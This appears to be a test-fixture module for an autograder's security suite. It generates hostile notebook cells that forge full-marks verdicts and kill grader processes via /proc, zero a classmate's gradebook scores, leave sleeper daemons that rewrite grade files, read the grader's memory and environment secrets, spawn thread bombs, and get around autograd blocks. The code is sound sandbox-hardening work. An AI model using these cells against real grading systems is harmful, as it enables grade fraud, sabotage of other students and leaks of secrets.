"""The attackers' answer cells: student code that tries to beat the grader from inside a graded cell.

Every cell is plain Python, built from a prelude of helpers plus one attack. The cells know what a
well-informed student could know (the kit is public: its paths, the layout of the output folder, the unit
table), and the run's token `mark`, for one reason only: the machine running these tests is shared, so an
attack may only touch processes of this test run. A process "of the grader" is one whose environment holds
the token (every process the test starts gets it); without isolation student code can read that environment
in /proc, with isolation it sees no such process. A process an attack leaves behind renames itself to the
token (/proc/self/comm), so that the test finds it wherever it ends up.

Each attack runs once per process (a cell is run once per replay, and again to rebuild helpers), and a cell
whose attack got nowhere raises, so its unit is not answered: an attacker with blank other cells earns 0.
"""
from __future__ import annotations

import json

from backprop_ninja import units

MARK_ENV = "BPN_SECURITY_MARK"      # the run's token, in the environment of every process the test starts
SECRET_ENV = "BPN_SECURITY_SECRET"  # a secret of the grader's environment that must never reach a student
FORGED = "FORGED-VERDICT"           # in every verdict an attacker forges
SLEEPER_SECONDS = 90                # how long a process left behind lingers once it has done its work
AFTER_THE_GRADER = 2.0              # a sleeper strikes this long after the grader it waited for has ended

PRELUDE = '''
import os as _os, sys as _sys, time as _time, signal as _signal, json as _json
_MARK = {mark!r}


def _bpn_read(path, mode="r"):
    with open(path, mode) as f:
        return f.read()


def _bpn_ppid(pid):
    for line in _bpn_read(f"/proc/{{pid}}/status").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _bpn_ancestors():
    """Our ancestors through the PPid chain, nearest first (init and PID 1 of a namespace excluded)."""
    chain, pid = [], _os.getpid()
    while True:
        pid = _bpn_ppid(pid)
        if pid <= 1:
            return chain
        chain.append(pid)


def _bpn_of_grader(pid):
    """A process of the test's grader: its environment holds the run's token."""
    try:
        return _MARK.encode() in _bpn_read(f"/proc/{{pid}}/environ", "rb")
    except OSError:
        return False


def _bpn_cmdline(pid):
    try:
        return [a.decode(errors="replace") for a in _bpn_read(f"/proc/{{pid}}/cmdline", "rb").split(b"\\0") if a]
    except OSError:
        return []


def _bpn_comm(pid):
    try:
        return _bpn_read(f"/proc/{{pid}}/comm").strip()
    except OSError:
        return ""


def _bpn_alive(pid):
    try:
        return _bpn_read(f"/proc/{{pid}}/stat").rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False


def _bpn_wait_for_end(pid, limit=900):
    deadline = _time.monotonic() + limit
    while _bpn_alive(pid) and _time.monotonic() < deadline:
        _time.sleep(0.1)


def _bpn_pids():
    return [int(name) for name in _os.listdir("/proc") if name.isdigit()]


def _bpn_once(key):
    """True the first time in this process."""
    done = _sys.__dict__.setdefault("_bpn_done", set())
    if key in done:
        return False
    done.add(key)
    return True


def _bpn_rename():
    """Take the run's token as this process's name, so that the test finds us wherever we end up."""
    try:
        with open("/proc/self/comm", "w") as f:
            f.write(_MARK)
    except OSError:
        pass


def _bpn_daemon(work):
    """Double fork and setsid: the grandchild leaves the worker's process group, runs work() and lingers."""
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        _bpn_rename()
        try:
            work()
        except BaseException:
            pass
        _time.sleep({sleeper_seconds})
    finally:
        _os._exit(0)
'''


def prelude(mark: str) -> str:
    return PRELUDE.format(mark=mark, sleeper_seconds=SLEEPER_SECONDS)


def cell(mark: str, body: str) -> str:
    return prelude(mark) + "\n" + body.strip("\n") + "\n"


def forged_results() -> dict:
    """Full marks in Gradescope's format (with our extra_data, as the nbgrader hook reads it)."""
    tests = [{"name": u.grade_id, "score": float(u.points), "max_score": float(u.points), "status": "passed",
              "output": FORGED, "visibility": "visible", "extra_data": {"status": "ok"}} for u in units.UNITS]
    return {"score": float(sum(u.points for u in units.UNITS)), "execution_time": 0.1, "output": FORGED,
            "tests": tests}


# ---------------------------------------------------------------- 1 and 3: forge the verdict, kill the grader

FORGE = '''
def _bpn_forge():
    """Find the grader among our ancestors, write full marks where it would write its verdict (its --out folder,
    Gradescope's results folder, its stdout) and kill it before it writes the real one."""
    graders = [p for p in _bpn_ancestors() if _bpn_of_grader(p)
               and any("backprop" in a for a in _bpn_cmdline(p))
               and ("grade" in _bpn_cmdline(p) or "--autograde" in _bpn_cmdline(p))]
    if not graders:
        raise RuntimeError("no grader process in reach")
    top = graders[-1]
    args, cwd = _bpn_cmdline(top), _os.readlink(f"/proc/{{top}}/cwd")
    forged = _json.dumps({forged!r})
    if "--out" in args:
        out = _os.path.join(cwd, args[args.index("--out") + 1])
        _os.makedirs(out, exist_ok=True)
        with open(_os.path.join(out, "results.json"), "w") as f:
            f.write(forged)
    if "--autograde" in args:
        results = _os.path.join(cwd, args[args.index("--autograde") + 1], "results")
        _os.makedirs(results, exist_ok=True)
        with open(_os.path.join(results, "results.json"), "w") as f:
            f.write(forged)
    with open(f"/proc/{{top}}/fd/1", "w") as f:
        f.write(forged + "\\n" if "--json" in args else "total: 32/32  {forged_word}\\n")
    for pid in graders:
        _os.kill(pid, _signal.SIGKILL)


if _bpn_once("forge"):
    _bpn_forge()
raise RuntimeError("nothing to forge here")
'''


def forge_cell(mark: str) -> str:
    return cell(mark, FORGE.format(forged=forged_results(), forged_word=FORGED))


# ---------------------------------------------------------------- nbgrader: tamper from inside the kernel

def redirect_submission_cell(classmate_notebook: str) -> str:
    """The hidden-test hook grades the file this variable names."""
    return f'import os\nos.environ["BACKPROP_NINJA_SUBMISSION"] = {classmate_notebook!r}\n'


def copy_classmate_cell(classmate_notebook: str, own_notebook: str) -> str:
    """Overwrite the notebook nbgrader is executing (the hook grades that file) with a classmate's."""
    return (f"import shutil\nfor _target in ({own_notebook!r}, 'backprop_ninja.ipynb'):\n"
            f"    shutil.copyfile({classmate_notebook!r}, _target)\n")


FAKE_HIDDEN_MODULE = '''
import sys, types
_fake = types.ModuleType("backprop_ninja.hidden")
_fake.grade_unit = lambda unit: True
sys.modules["backprop_ninja.hidden"] = _fake
'''

GRADEBOOK = '''
def _bpn_zero_classmate():
    import sqlite3
    db = sqlite3.connect({gradebook!r}, timeout=3)
    db.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN ("
               "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
               "WHERE sa.student_id = ?)", ({classmate!r},))
    db.commit()
    db.close()


def _bpn_after_nbgrader():
    """Wait for nbgrader (an ancestor of the kernel) to finish, then zero the classmate for good."""
    nbgrader = [p for p in _bpn_ancestors() if _bpn_of_grader(p) and any("nbgrader" in a for a in _bpn_cmdline(p))]
    if not nbgrader:
        raise RuntimeError("nbgrader is not in reach")

    def work():
        _bpn_wait_for_end(nbgrader[-1])
        _time.sleep({after})
        _bpn_zero_classmate()
    _bpn_daemon(work)


for _attack in (_bpn_forge, _bpn_zero_classmate, _bpn_after_nbgrader):
    if _bpn_once(_attack.__name__):
        try:
            _attack()
        except Exception:
            pass
'''


def nbgrader_forge_cell(mark: str, gradebook: str, classmate: str) -> str:
    """Forge the hook's grader output through /proc and kill that grader (in the grader's worker), and set a
    classmate's scores to 0 in the gradebook (now, and again from a sleeper once nbgrader is done)."""
    forge = FORGE.format(forged=forged_results(), forged_word=FORGED).split("\n\nif _bpn_once")[0]
    return cell(mark, forge + "\n\n" + GRADEBOOK.format(gradebook=gradebook, classmate=classmate,
                                                        after=AFTER_THE_GRADER))


# ---------------------------------------------------------------- 2: outlive grading, kill the other workers

OUTLIVE = '''
def _bpn_rewrite(path, edit):
    with open(path) as f:
        text = f.read()
    with open(path, "w") as f:
        f.write(edit(text))


def _bpn_results(full):
    def edit(text):
        data = _json.loads(text)
        for test in data.get("tests", []):
            test["score"] = test["max_score"] if full else 0.0
            test["output"] = {forged!r}
        data["score"] = float(sum(test["score"] for test in data.get("tests", [])))
        return _json.dumps(data)
    return edit


def _bpn_csv(text):
    import csv, io
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    for row in rows[1:]:
        if row[0] == {me!r}:
            row[header.index("total")] = row[header.index("max")]
        if row[0] == {classmate!r}:
            row[header.index("total")] = "0"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def _bpn_outlive():
    batch = [p for p in _bpn_ancestors() if _bpn_of_grader(p)]
    if not batch:
        raise RuntimeError("the batch is not in reach")

    def work():
        _bpn_wait_for_end(batch[-1])
        _time.sleep({after})
        _bpn_rewrite({out!r} + "/" + {me!r} + "/results.json", _bpn_results(True))
        _bpn_rewrite({out!r} + "/" + {classmate!r} + "/results.json", _bpn_results(False))
        _bpn_rewrite({out!r} + "/grades.csv", _bpn_csv)
    _bpn_daemon(work)


if _bpn_once("outlive"):
    _bpn_outlive()
raise RuntimeError("a sleeper will see to the points")
'''


def outlive_cell(mark: str, out_dir: str, me: str, classmate: str) -> str:
    return cell(mark, OUTLIVE.format(forged=FORGED, me=me, classmate=classmate, out=out_dir, after=AFTER_THE_GRADER))


KILL_WORKERS = '''
def _bpn_kill_other_graders():
    """Wait until another grader process is busy (it has a child of the grader's), then kill every process of
    the grader that is not ours: the workers grading classmates."""
    mine = set(_bpn_ancestors()) | {_os.getpid()}
    deadline = _time.monotonic() + 6.0
    while _time.monotonic() < deadline:
        others = {}
        for pid in _bpn_pids():
            if pid not in mine and _bpn_comm(pid) != _MARK and _bpn_of_grader(pid):
                try:
                    others[pid] = _bpn_ppid(pid)
                except OSError:
                    pass
        if any(parent in others for parent in others.values()):
            for pid in others:
                try:
                    _os.kill(pid, _signal.SIGKILL)
                except OSError:
                    pass
            return
        _time.sleep(0.05)
    raise RuntimeError("no other grader process in reach")


if _bpn_once("kill"):
    _bpn_kill_other_graders()
raise RuntimeError("killed what it could")
'''


def kill_workers_cell(mark: str) -> str:
    return cell(mark, KILL_WORKERS)


# ---------------------------------------------------------------- 4: reach the reference

# Each cell answers its unit only through a route to autograd (or to the grader's memory); the test asserts the
# unit is never scored.
READ_GRADER_MEMORY = '''
def _bpn_grader_memory():
    """Bytes read from the writable memory (heap, arrays) of the grader, which holds the reference gradients."""
    total = 0
    for pid in _bpn_ancestors():
        if not _bpn_of_grader(pid):
            continue
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                fields = line.split()
                if not fields[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                try:
                    mem.seek(start)
                    total += len(mem.read(min(end - start, 1 << 20)))
                except (OSError, ValueError, OverflowError):
                    continue
                if total >= 4 << 20:
                    return total
    return total


if _sys.__dict__.get("_bpn_memory") is None:
    _sys._bpn_memory = _bpn_grader_memory()
if _sys._bpn_memory < 1 << 20:
    raise RuntimeError("the grader's memory is out of reach")
# The grader's heap, where its reference gradients live, is readable: a real attacker searches it for a float32
# array of dlogprobs' shape. The answer below stands for what that search copies out.
dlogprobs = torch.zeros_like(logprobs)
dlogprobs[range(n), Yb] = -1.0 / n
'''

AUTOGRAD_SERVER = '''
import sys, json, torch
for line in sys.stdin:
    job = json.loads(line)
    probs = torch.tensor(job["probs"], requires_grad=True)
    yb = torch.tensor(job["Yb"])
    loss = -probs.log()[range(len(yb)), yb].mean()
    loss.backward()
    print(json.dumps(probs.grad.tolist()), flush=True)
'''

AUTOGRAD_IN_A_CHILD = '''
import subprocess
_server = _sys.__dict__.get("_bpn_autograd_server")
if _server is None:
    _server = _sys._bpn_autograd_server = subprocess.Popen(
        [_sys.executable, "-c", {server!r}], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
_server.stdin.write(_json.dumps({{"probs": probs.tolist(), "Yb": Yb.tolist()}}) + "\\n")
_server.stdin.flush()
dprobs = torch.tensor(_json.loads(_server.stdout.readline()))
'''

FORWARD_AD = '''
import importlib
_fw = importlib.import_module("torch.autograd." + "forward_ad")
dcounts_sum_inv = torch.zeros_like(counts_sum_inv)
with _fw.dual_level():
    for _i in range(counts_sum_inv.shape[0]):
        _tangent = torch.zeros_like(counts_sum_inv)
        _tangent[_i, 0] = 1.0
        _dual = _fw.make_dual(counts_sum_inv, _tangent)
        _loss = -(counts * _dual).log()[range(n), Yb].mean()
        dcounts_sum_inv[_i, 0] = _fw.unpack_dual(_loss).tangent
'''

FRESH_ENGINE = '''
_engine = getattr(getattr(torch, "_C"), "_Imperative" + "Engine")()
_leaf = counts_sum.clone()
getattr(_leaf, "requires" + "_grad_")(True)
_loss = -(counts * _leaf**-1).log()[range(n), Yb].mean()
(dcounts_sum,) = _engine.run_backward((_loss,), (torch.ones_like(_loss),), False, False, (_leaf,), False, False)
dcounts_sum = dcounts_sum.detach()
'''

PARAMETER_AND_GETATTR = '''
_leaf = torch.nn.Parameter(counts.clone())
_loss = -(_leaf * _leaf.sum(1, keepdim=True)**-1).log()[range(n), Yb].mean()
_ask = getattr(getattr(torch, "auto" + "grad"), "gr" + "ad")
(dcounts,) = _ask(_loss, [_leaf])
dcounts = dcounts.detach()
'''


def reach_cells(mark: str) -> dict[str, str]:
    """grade_id -> a cell that answers it through a forbidden route."""
    return {
        "ex1_logprobs": cell(mark, READ_GRADER_MEMORY),
        "ex1_probs": cell(mark, AUTOGRAD_IN_A_CHILD.format(server=AUTOGRAD_SERVER)),
        "ex1_counts_sum_inv": cell(mark, FORWARD_AD),
        "ex1_counts_sum": cell(mark, FRESH_ENGINE),
        "ex1_counts": cell(mark, PARAMETER_AND_GETATTR),
    }


# ---------------------------------------------------------------- 5: leak files through exception text

def long_student_text() -> str:
    """2,000 characters of the student's own, without a repeat of 300: any 301 of them in a result is too many."""
    return "".join(chr(97 + (i * 7 + i // 26) % 26) for i in range(2000))


FIND_LINE = '''
def _bpn_line(path, needle):
    text = _bpn_read(path)
    for line in text.splitlines():
        if needle in line:
            return line.strip()
    return text[:300]
'''

CMDLINES = '''
_graders = [p for p in _bpn_ancestors() if _bpn_of_grader(p)]
raise ValueError(" | ".join(" ".join(_bpn_cmdline(p)) for p in [*_graders[::-1], 1]))
'''

ENVIRONMENT = '''
_found = {k: v for k, v in _os.environ.items() if "SECRET" in k}
for _pid in _bpn_ancestors():
    for _entry in _bpn_read(f"/proc/{_pid}/environ", "rb").split(b"\\0"):
        if b"SECRET" in _entry:
            _found[str(_pid)] = _entry.decode(errors="replace")
raise ValueError(repr(_found) if _found else repr(dict(_os.environ)))
'''


def leak_cells(mark: str, kit_files: dict[str, tuple[str, str]]) -> dict[str, str]:
    """grade_id -> a cell whose exception carries something the student must not see.

    kit_files: grade_id -> (path of a kit file, a needle its distinctive line contains)."""
    cells = {grade_id: cell(mark, FIND_LINE + f"\nraise ValueError(_bpn_line({path!r}, {needle!r}))\n")
             for grade_id, (path, needle) in kit_files.items()}
    cells["ex1_counts_sum"] = cell(mark, CMDLINES)
    cells["ex1_counts"] = cell(mark, ENVIRONMENT)
    cells["ex1_norm_logits"] = f"raise ValueError({long_student_text()!r})\n"
    return cells


# ---------------------------------------------------------------- 6: leave files and processes behind

LITTER = '''
if _bpn_once("litter"):
    for _folder in ("/tmp", "/dev/shm"):
        with open(f"{{_folder}}/{{_MARK}}-litter", "w") as _f:
            _f.write("left behind by a student cell")
    if _os.fork() == 0:
        _bpn_rename()
        _time.sleep({seconds})
        _os._exit(0)
    import subprocess
    subprocess.Popen(["sleep", "{seconds}"], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _bpn_daemon(lambda: None)
raise RuntimeError("left things behind")
'''


def litter_cell(mark: str) -> str:
    return cell(mark, LITTER.format(seconds=SLEEPER_SECONDS))


def litter_paths(mark: str) -> list[str]:
    return [f"/tmp/{mark}-litter", f"/dev/shm/{mark}-litter"]


# ---------------------------------------------------------------- 7: hostile cells

def huge_cell(megabytes: int = 24) -> str:
    return 's = "' + "a" * (megabytes << 20) + '"\n'


def deeply_nested_cell(depth: int = 100_000) -> str:
    return "x = " + "(" * depth + "1" + ")" * depth


def forged_json() -> str:
    return json.dumps(forged_results())


# ---------------------------------------------------------------- 8: the worker's run-time blocks (issue 13)

# Graded with code="any", so that the static allowlist does not refuse them first: each reaches autograd's numbers
# by a route that only the worker's run-time layer (seccomp, the blocks, the belt) can stop. Checked to give
# autograd's answer in an ordinary process (test_attacks_runtime.py), so each one is a real attack. Names are
# built from strings where the grader's static scan would otherwise report them before the worker sees them.

WALK = '''
def _bpn_walk(loss):
    """Reverse mode without the engine: call each node of loss's graph in turn (a chain, no branches)."""
    node, grad = getattr(loss, "grad" + "_fn"), torch.ones_like(loss)
    while type(node).__name__ != "AccumulateGrad":
        outs = node(grad)
        outs = outs if isinstance(outs, tuple) else (outs,)
        k = next(i for i, (f, _) in enumerate(node.next_functions) if f is not None)
        node, grad = node.next_functions[k][0], outs[k]
    return grad.sum_to_size(node.variable.shape).detach().clone()


def _bpn_leaf(t):
    """A copy of t that requires grad, made by a factory (requires_grad_ is blocked)."""
    return torch.tensor(t.tolist(), dtype=t.dtype, **{"requires" + "_grad": True})
'''

THREAD_GRAD = WALK + '''
import threading
_got = {}
def _bpn_work():  # a new thread starts with grad mode on
    _leaf = _bpn_leaf(logprobs)
    _got["g"] = _bpn_walk(-_leaf[range(n), Yb].mean())
_t = threading.Thread(target=_bpn_work)
_t.start()
_t.join()
dlogprobs = _got["g"]
'''

THREAD_POOL = WALK + '''
import concurrent.futures
def _bpn_work():
    _leaf = _bpn_leaf(probs)
    return _bpn_walk(-_leaf.log()[range(n), Yb].mean())
with concurrent.futures.ThreadPoolExecutor(2) as _pool:
    dprobs = _pool.submit(_bpn_work).result()
'''

CTYPES_GRAD_MODE = WALK + '''
import os
try:
    import ctypes as _ct
except ImportError:  # then look for the module the worker itself loaded
    import gc
    _ct = next(m for m in gc.get_objects() if type(m).__name__ == "module" and m.__name__ == "ctypes")
_c10 = _ct.CDLL(os.path.join(os.path.dirname(torch.__file__), "lib", "libc10.so"))
_c10._ZN3c108GradMode11set_enabledEb(True)  # c10::GradMode::set_enabled(true), under every Python patch
_leaf = _bpn_leaf(counts_sum_inv)
dcounts_sum_inv = _bpn_walk(-(counts * _leaf).log()[range(n), Yb].mean())
'''

INFERENCE_MODE_OFF = WALK + '''
with torch.inference_mode(False):  # leaving inference mode turns grad mode on
    _leaf = _bpn_leaf(counts_sum)
    dcounts_sum = _bpn_walk(-(counts * _leaf**-1).log()[range(n), Yb].mean())
'''

ATEN_GRAD_MODE = WALK + '''
torch.ops.aten.set_grad_enabled(True)
_leaf = _bpn_leaf(logprobs)
dlogprobs = _bpn_walk(-_leaf[range(n), Yb].mean())
torch.ops.aten.set_grad_enabled(False)
'''

EX2_BACKWARD_KERNELS = '''
_lp = logits - logits.logsumexp(1, keepdim=True)  # the log-softmax written out by hand
_total = torch.tensor(float(n), dtype=logits.dtype)
_g = torch.ops.aten.nll_loss_backward(torch.ones((), dtype=logits.dtype), _lp, Yb, None, 1, -100, _total)
dlogits = torch.ops.aten._log_softmax_backward_data(_g, _lp, 1, _lp.dtype)
'''

EX3_BACKWARD_KERNEL = '''
import torch._decomp
# The kernel as an OpOverload that torch keeps in one of its tables: no lookup by name through torch.ops.
_op = next(op for op in torch._decomp.decomposition_table if str(op) == "aten.native_batch_norm_backward.default")
_k = (n / (n - 1)) ** 0.5  # the notebook's variance is Bessel-corrected: rescale invstd and the weight to match
dhprebn = _op(dhpreact, hprebn, bngain.view(-1) / _k, None, None, hprebn.mean(0), bnvar_inv.view(-1) * _k, True,
              1e-5, [True, False, False])[0]
'''

THREAD_BOMB = '''
import threading, concurrent.futures, time
_started = 0
try:
    while _started < 100000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        _started += 1
finally:
    _pool = concurrent.futures.ThreadPoolExecutor(64)
    for _ in range(64):
        _pool.submit(time.sleep, 60)
dprobs = dlogprobs / probs
'''

REACH_THE_WORKER = '''
import sys
_hidden = ("ctypes", "_ctypes", "sandboxed", "backprop_ninja")
_found = [name for name in sys.modules if name.partition(".")[0] in _hidden]
for _name in ("ctypes", "_ctypes", "sandboxed.worker", "backprop_ninja.sandboxed.worker"):
    try:
        __import__(_name)
        _found.append("import " + _name)
    except ImportError:
        pass
for _mod in list(sys.modules.values()):
    for _key, _value in list(getattr(_mod, "__dict__", {}).items()):
        if type(_value).__name__ == "module" and _value.__name__.partition(".")[0] in _hidden:
            _found.append(f"{_mod.__name__}.{_key}")
for _helper in (check, plt.imshow, globals()["finite" + "_difference"]):  # spelled so the scan lets it run
    if {"Session", "lock_down", "serve"} & set(getattr(_helper, "__globals__", {})):
        _found.append("a helper's globals")
raise ValueError(f"reachable: {_found}")
'''

# Honest answers that used to be "uses autograd": printing a tensor, and torch.no_grad / set_grad_enabled(False).
PRINTS_A_TENSOR = '''
dlogits = F.softmax(logits, 1)
print(dlogits[:2])
dlogits[range(n), Yb] -= 1
dlogits /= n
print("dlogits", dlogits.shape, dlogits)
'''

INSIDE_NO_GRAD = '''
with torch.no_grad():
    dhprebn = bngain * bnvar_inv / n * (n * dhpreact - dhpreact.sum(0)
                                        - n / (n - 1) * bnraw * (dhpreact * bnraw).sum(0))
torch.set_grad_enabled(False)
'''


def runtime_attacks() -> dict[str, tuple[str, str, str]]:
    """grade_id -> (cell, the variable it answers, what its verdict must say): one route per unit, all in one
    attacker's notebook."""
    return {
        "ex1_logprobs": (THREAD_GRAD, "logprobs", "can't start new thread"),
        "ex1_probs": (THREAD_POOL, "probs", "can't start new thread"),
        "ex1_counts_sum_inv": (CTYPES_GRAD_MODE, "counts_sum_inv", "left grad mode on"),
        "ex1_counts_sum": (INFERENCE_MODE_OFF, "counts_sum", "torch.inference_mode(False)"),
        "ex2_logits": (EX2_BACKWARD_KERNELS, "logits", "nll_loss_backward"),
        "ex3_hprebn": (EX3_BACKWARD_KERNEL, "hprebn", "native_batch_norm_backward"),
    }
